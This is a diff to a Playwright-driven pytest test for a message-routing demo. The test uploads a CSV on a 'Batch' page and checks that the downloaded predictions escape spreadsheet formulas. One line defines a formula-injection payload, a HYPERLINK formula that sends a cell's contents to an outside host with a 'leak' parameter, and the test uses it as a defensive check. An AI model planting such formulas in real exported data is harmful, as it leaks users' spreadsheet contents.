@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import shutil
 import signal
@@ -9,7 +11,7 @@ import subprocess
 from pathlib import Path
 
 import pytest
-from playwright.sync_api import sync_playwright
+from playwright.sync_api import FilePayload, Page, sync_playwright
 
 from .running import bake, free_port, run, wait_until_ready
 from .template import TEMPLATE_DIR, require_tools, tool_environment
@@ -26,6 +28,29 @@ CHROMIUM_ARGS = [
     "--disable-sync",
 ]
 
+# Two messages for the Batch page; a spreadsheet would run the first as a formula, as it is.
+FORMULA = '=HYPERLINK("http://example.org/?leak="&A3, "Refund")'
+MESSAGES = [FORMULA, "I was charged twice for my order"]
+
+
+def download_predictions(page: Page, folder: Path) -> list[str]:
+    """Route a file on the Batch page and download the predictions, as a user does."""
+    page.get_by_role("link", name="Batch").click()
+    page.get_by_role("heading", name="Route a file of messages").wait_for(timeout=60_000)
+    content = io.StringIO()
+    csv.writer(content).writerows([["text"], *([message] for message in MESSAGES)])
+    buffer = content.getvalue().encode()
+    upload = FilePayload(name="messages.csv", mimeType="text/csv", buffer=buffer)
+    page.locator("input[type=file]").set_input_files(files=[upload])
+    button = page.get_by_role("button", name="Download the predictions")
+    button.wait_for(timeout=60_000)
+    with page.expect_download(timeout=60_000) as started:
+        button.click()
+    saved = folder / "predictions.csv"
+    started.value.save_as(saved)
+    with saved.open(encoding="utf-8", newline="") as handle:
+        return [row["text"] for row in csv.DictReader(handle)]
+
 
 def browser_path() -> str | None:
     """Debian's chromium, or the Chrome or Chromium that the CHROMIUM variable names."""
@@ -33,7 +58,7 @@ def browser_path() -> str | None:
 
 
 @pytest.mark.real
-def test_the_demo_routes_a_message_in_a_real_browser(tmp_path: Path) -> None:
+def test_the_demo_routes_a_message_and_a_file_in_a_real_browser(tmp_path: Path) -> None:
     require_tools("uv", "make")
     if browser_path() is None:
         require_tools("chromium")
@@ -73,9 +98,11 @@ def test_the_demo_routes_a_message_in_a_real_browser(tmp_path: Path) -> None:
             page.get_by_test_id("stVegaLiteChart").locator("canvas, svg").first.wait_for()
             ARTIFACTS.mkdir(exist_ok=True)
             page.screenshot(path=str(screenshot), full_page=True)
+            downloaded = download_predictions(page, tmp_path)
             browser.close()
     finally:
         os.killpg(demo.pid, signal.SIGTERM)
         demo.wait(timeout=30)
     assert routed == "billing"
     assert screenshot.stat().st_size > 10_000  # a rendered page, not a blank one
+    assert downloaded == ["'" + FORMULA, MESSAGES[1]]  # the formula is text in a spreadsheet
